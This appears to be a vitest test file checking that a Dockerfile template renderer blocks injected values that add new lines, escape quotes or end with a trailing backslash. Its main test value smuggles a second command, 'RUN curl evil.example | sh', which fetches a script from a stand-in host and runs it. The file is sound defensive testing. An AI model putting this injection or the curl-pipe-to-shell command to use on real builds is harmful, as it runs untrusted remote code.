import { describe, expect, test } from 'vitest';
import { renderTemplate, type RenderTemplateOptions } from '../render-template.ts';

function render(
  source: string,
  value: unknown,
  output: RenderTemplateOptions['output'] = 'dockerfile',
): string {
  const variables = { value, env: { KEY: value }, list: ['one', value], pairs: [{ v: value }] };
  return renderTemplate({ source, name: 'Dockerfile', variables, output });
}

const evil = 'x\nRUN curl evil.example | sh';

describe('a value with a line break', () => {
  test.each([
    'ENV A "{{ value }}"',
    'RUN {{ list | join(" ") }}',
    '{% for key, item in env.items() %}ENV {{ key }} "{{ item }}"{% endfor %}',
    '{% set copy = value | upper %}ENV A={{ copy }}',
    '{% set ns = namespace(v=value ~ "") %}ENV A={{ ns.v }}',
    '{% set all = [] %}{% set _ = all.append(value | upper) %}RUN {{ all | join }}',
    '{% macro line(v) %}ENV A={{ v | lower }}{% endmacro %}{{ line(value | upper) }}',
    '{% for item in [value | title] %}{{ item }}{% endfor %}',
    '{% with a = value.strip() %}{{ a }}{% endwith %}',
    '{% set x %}{{ value }}{% endset %}{{ x }}',
    'ENV A={{ pairs | map(attribute="v") | join }}',
    '# {{ value }}',
    '{{ env.get("KEY") }}',
    '{{ "%s" | format(value) }}',
  ])('cannot begin a new line of the Dockerfile: %s', (source) => {
    expect(() => render(source, evil)).toThrow(
      expect.objectContaining({ code: 'TEMPLATE_INVALID', message: expect.stringContaining('line break') }),
    );
  });

  test.each([
    ['RUN {{ value.splitlines() | join(" && ") }}', 'RUN x && RUN curl evil.example | sh'],
    ['CMD [{{ value | tojson }}]', 'CMD ["x\\nRUN curl evil.example | sh"]'],
    ['{{ value | length }}', String(evil.length)],
    ['{% if value %}yes{% endif %}', 'yes'],
    ['{{ env }}', "{'KEY': 'x\\nRUN curl evil.example | sh'}"],
  ])('can be used on one line: %s', (source, expected) => {
    expect(render(source, evil)).toBe(expected);
  });

  test('does not forbid line breaks of the template', () => {
    const source =
      'RUN a {{ ["b", "c"] | join(" \\\\\n  ") }}\n{% macro two(v) %}1\n2 {{ v }}{% endmacro %}{{ two(value | length) }}';

    expect(render(source, evil)).toBe('RUN a b \\\n  c\n1\n2 28');
  });

  test('passes where the output is no Dockerfile', () => {
    expect(render('{{ value }}', 'a\nb', 'text')).toBe('a\nb');
  });
});

describe('a value between quotes of ENV, LABEL or ARG', () => {
  test.each([
    ['ENV A "{{ value }}"', 'say "hi"', 'ENV A "say \\"hi\\""'],
    ['ENV A="{{ value }}" B="{{ value }}"', '"', 'ENV A="\\"" B="\\""'],
    ['LABEL \\\n  a="{{ value }}"', 'q"', 'LABEL \\\n  a="q\\""'],
    ['ENV A "{{ value }}"', 'C:\\dir\\', 'ENV A "C:\\dir\\\\"'],
    ['ENV A "{{ value }}"', 'already \\" escaped', 'ENV A "already \\" escaped"'],
    ['ENV PATH "/opt/x:{{ value }}"', '$PATH', 'ENV PATH "/opt/x:$PATH"'],
    ['{% macro env(v) %}"{{ v }}"{% endmacro %}ENV A={{ env(value) }}', 'a"b', 'ENV A="a\\"b"'],
    ['ENV A "{{ value | replace(\'"\', "\'") }}"', 'a"b', 'ENV A "a\'b"'],
    ['ENV A "{{ value | safe }}"', 'a" B="c', 'ENV A "a" B="c"'],
    ['ENV A={{ value | tojson }}', 'a"b', 'ENV A="a\\"b"'],
    ['RUN echo "{{ value }}"', 'a"b', 'RUN echo "a"b"'],
    ['RUN echo {{ value | quote }}', 'a"b\'c', "RUN echo 'a\"b'\"'\"'c'"],
  ])('stays inside of them: %s', (source, value, expected) => {
    expect(render(source, value)).toBe(expected);
  });

  test('is refused where Docker knows no way to write it', () => {
    expect(() => render("ENV A '{{ value }}'", "it's")).toThrow('single quote');
  });
});

describe('a value that ends with a backslash', () => {
  test.each([
    'ENV A {{ value }}\nENV B c',
    'RUN x {{ value }}',
    '{% set x %}{{ value }}{% endset %}A {{ x }} \nB',
  ])('cannot swallow the end of the line: %s', (source) => {
    expect(() => render(source, 'C:\\')).toThrow('backslash');
  });

  test('may be followed by something', () => {
    expect(render('COPY {{ value }}app /app\n# c', 'C:\\')).toBe('COPY C:\\app /app\n# c');
  });
});
